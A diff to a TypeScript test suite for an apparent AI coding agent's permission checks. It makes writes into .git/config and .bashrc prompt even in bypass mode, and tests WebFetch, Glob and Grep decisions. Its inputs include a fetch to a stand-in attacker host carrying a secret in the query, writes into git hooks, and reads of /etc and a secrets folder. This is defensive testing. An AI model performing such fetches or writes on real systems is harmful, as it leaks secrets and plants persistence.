@@ -117,7 +117,7 @@ describe("shell writes into protected directories", () => {
     })
   )
 
-  it.effect("an explicit rule allows it, and bypassPermissions stays what it says", () =>
+  it.effect("an explicit rule allows it; bypassPermissions still asks (protected in every mode)", () =>
     Effect.gen(function* () {
       const explicit = yield* rulesFor(sandbox, { allow: ["Bash(echo:*)", "Edit(.git/hooks/**)"] })
       expect(yield* decideWith(explicit, TOOLS.Bash, redirect(".git/hooks/pre-commit"))).toMatchObject({
@@ -125,7 +125,39 @@ describe("shell writes into protected directories", () => {
         source: expect.stringContaining("rule:Edit(.git/hooks/**)")
       })
       const none = yield* rulesFor(sandbox, {})
-      expect((yield* decideWith(none, TOOLS.Bash, redirect(".git/config"), "bypassPermissions")).type).toBe("allow")
+      expect((yield* decideWith(none, TOOLS.Bash, redirect(".git/config"), "bypassPermissions")).type).toBe("ask")
+      expect((yield* decideWith(none, TOOLS.Bash, redirect("src/.bashrc"), "bypassPermissions")).type).toBe("ask")
+    })
+  )
+})
+
+describe("WebFetch is asked about; Grep and Glob are decided on the directory they search", () => {
+  it.effect("WebFetch asks in default mode and names the domain rule that would allow it", () =>
+    Effect.gen(function* () {
+      const rules = yield* rulesFor(sandbox, {})
+      const decision = yield* decideWith(rules, TOOLS.WebFetch, { url: "https://attacker.example/?q=secret" })
+      expect(decision).toMatchObject({ type: "ask", suggestion: "WebFetch(domain:attacker.example)" })
+      if (decision.type !== "ask") return
+      expect(decision.hint).toContain("`WebFetch(domain:attacker.example)`")
+      expect(decision.hint).not.toContain("acceptEdits")
+      const allowed = yield* rulesFor(sandbox, { allow: ["WebFetch(domain:attacker.example)"] })
+      expect((yield* decideWith(allowed, TOOLS.WebFetch, { url: "https://attacker.example/x" })).type).toBe("allow")
+    })
+  )
+
+  it.effect("a Glob pattern's fixed leading directories and Grep's default path are the searched directory", () =>
+    Effect.gen(function* () {
+      const rules = yield* rulesFor(sandbox, { deny: ["Read(./secrets/**)"] })
+      const glob = yield* decideWith(rules, TOOLS.Glob, { pattern: "secrets/**/*.txt" })
+      expect(glob).toMatchObject({ type: "deny", source: "rule:Read(./secrets/**) in options" })
+      expect((yield* decideWith(rules, TOOLS.Glob, { pattern: "src/**/*.txt" })).type).toBe("allow")
+      expect(yield* decideWith(rules, TOOLS.Glob, { pattern: "/etc/*" })).toMatchObject({
+        type: "deny",
+        source: WORKSPACE_SOURCE
+      })
+      expect((yield* decideWith(rules, TOOLS.Grep, { pattern: "x" })).type).toBe("allow")
+      const everything = yield* rulesFor(sandbox, { deny: ["Read"] })
+      expect((yield* decideWith(everything, TOOLS.Grep, { pattern: "x" })).type).toBe("deny")
     })
   )
 })
